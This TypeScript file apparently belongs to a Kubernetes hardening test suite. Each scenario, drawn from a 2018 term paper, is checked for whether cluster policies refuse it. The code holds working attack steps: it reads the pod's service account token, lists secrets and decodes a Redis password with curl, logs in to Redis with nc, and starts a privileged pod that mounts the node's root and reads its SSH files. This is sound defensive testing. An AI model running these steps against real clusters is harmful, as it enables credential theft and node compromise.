import { type Attack, joined, said, textOf } from './attack';
import { scenery } from './scenery';
import { apiUrl, create, curl, inPod, liftPolicies, podAddress } from './steps';

const listing9 = (namespace: string, node: string, image: string) => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'jessie', namespace, labels: { env: 'prod' } },
  spec: {
    terminationGracePeriodSeconds: 0,
    containers: [
      {
        name: 'jessie',
        image,
        imagePullPolicy: 'IfNotPresent',
        command: ['/bin/sh', '-c', '--'],
        args: ['while true; do sleep 30; done;'],
        securityContext: { privileged: true },
        volumeMounts: [{ name: 'rootfs', mountPath: '/rootfs' }],
      },
    ],
    volumes: [{ name: 'rootfs', hostPath: { path: '/' } }],
    nodeSelector: { 'kubernetes.io/hostname': node },
  },
});

/** Listing 9 in a namespace, then a look at the node's root and the node's SSH keys through it. */
const jessie =
  (namespace: string): Attack['run'] =>
  async (target) => {
    const created = await create(target, listing9(namespace, target.victim.name, target.image));
    if (created.code !== 0) return created;
    try {
      await target.kubectl(['wait', '-n', namespace, 'pod/jessie', '--for=condition=Ready', '--timeout=60s']);
      const look = 'ls /rootfs; ls /rootfs/etc/ssh; echo "node: $(cat /rootfs/etc/hostname)"';
      return joined(created, await inPod(target, namespace, 'jessie', look));
    } finally {
      await target.kubectl(['delete', 'pod', '-n', namespace, 'jessie', '--now', '--wait=false']);
    }
  };

const stealToken = 'cat /var/run/secrets/kubernetes.io/serviceaccount/token';

const source = "2018 term paper 'Securing Kubernetes'";

/** The three attacks of the founding thesis as printed; only the image and the image's shell differ. */
export const thesisAttacks: readonly Attack[] = [
  {
    id: 'S1',
    title: 'Steal the token of the frontend and list the secrets of its namespace from outside',
    source: `${source}, 5.1`,
    weakness: 'default-account-admin',
    async run(target) {
      const stolen = await inPod(target, scenery.shop, 'deploy/frontend', stealToken);
      const url = apiUrl(target, `/api/v1/namespaces/${scenery.shop}/secrets`);
      const listed = await target.outside(curl('-H', `Authorization: Bearer ${stolen.stdout.trim()}`, url));
      return joined({ ...stolen, stdout: '' }, listed);
    },
    refused: /"message": "Unauthorized"[\s\S]*HTTP 401[\s\S]*token': No such file or directory/,
    succeeds: /"kind": "SecretList"[\s\S]*HTTP 200/,
  },
  {
    id: 'S2',
    title: 'Read the Redis password with the stolen token and log in to Redis from the frontend',
    source: `${source}, 5.3`,
    weakness: 'default-account-admin',
    async run(target) {
      const stolen = await inPod(target, scenery.shop, 'deploy/frontend', stealToken);
      const bearer = ['-H', `Authorization: Bearer ${stolen.stdout.trim()}`];
      const secret = await target.outside(curl(...bearer, apiUrl(target, '/api/v1/namespaces/default/secrets/redis')));
      const coded = /"password": "([A-Za-z0-9+/=]+)"/.exec(secret.stdout)?.[1] ?? '';
      const password = Buffer.from(coded, 'base64').toString();
      // Even an attacker who learned address and password elsewhere must not get through.
      const address = await podAddress(target, scenery.shop, 'redis');
      const login = `echo 'AUTH ${password || scenery.redisPassword}' | nc -w 3 ${address} 6379`;
      const spoken = await inPod(target, scenery.shop, 'deploy/frontend', login);
      return joined(
        { ...stolen, stdout: '' },
        { ...secret, stdout: secret.stdout.match(/HTTP \d+/)?.[0] ?? '' },
        spoken,
      );
    },
    refused: /HTTP 401[\s\S]*token': No such file or directory[\s\S]*nc: timed out/,
    succeeds: /HTTP 200[\s\S]*\+OK/,
  },
  {
    id: 'S3',
    title: 'Privileged pod with the root of its node, in kube-system, by an administrator',
    source: `${source}, 5.5, listing 9`,
    run: jessie('kube-system'),
    refused: /pods "jessie" is forbidden: ValidatingAdmissionPolicy '[^']+' with binding '[^']+' denied request: /,
    succeeds: /\bsshd_config\b[\s\S]*node: /,
  },
  {
    id: 'A06',
    title: 'The same pod in an application namespace',
    source: `${source}, 5.5; stratus privileged-pod; badPods everything-allowed`,
    run: jessie(scenery.app),
    refused:
      /pods "jessie" is forbidden: violates PodSecurity "restricted:v1\.36": privileged \(container "jessie" must not set securityContext\.privileged=true\)[\s\S]*restricted volume types \(volume "rootfs" uses restricted volume type "hostPath"\)/,
    succeeds: /\bsshd_config\b[\s\S]*node: /,
  },
  {
    id: 'A01',
    title: 'Read the token that is mounted into a pod by default',
    source: `${source}, 5.1; stratus k8s.credential-access.steal-serviceaccount-token`,
    async run(target) {
      const { stdout, ...rest } = await inPod(target, scenery.shop, 'deploy/frontend', stealToken);
      return { ...rest, stdout: /^eyJ[\w-]+\.[\w-]+\.[\w-]+$/.test(stdout.trim()) ? 'a token was read' : stdout };
    },
    refused: /No such file or directory[\s\S]*exit 1$/,
    succeeds: /a token was read/,
  },
  {
    id: 'A04',
    title: 'Reach Redis from the frontend, which has no business there',
    source: `${source}, 5.3`,
    async run(target) {
      const address = await podAddress(target, scenery.shop, 'redis');
      const knock = `echo PING | nc -w 3 ${address} 6379`;
      const backend = await inPod(target, scenery.shop, 'backend', knock);
      const frontend = await inPod(target, scenery.shop, 'deploy/frontend', knock);
      return said(`backend: ${textOf(backend)}\nfrontend: ${textOf(frontend)}`, frontend.code);
    },
    refused: /^backend: -NOAUTH[\s\S]*frontend: [\s\S]*nc: timed out[\s\S]*exit 1$/,
    succeeds: /frontend: -NOAUTH/,
    lift: { ...liftPolicies, opens: /frontend: -NOAUTH/ },
  },
];
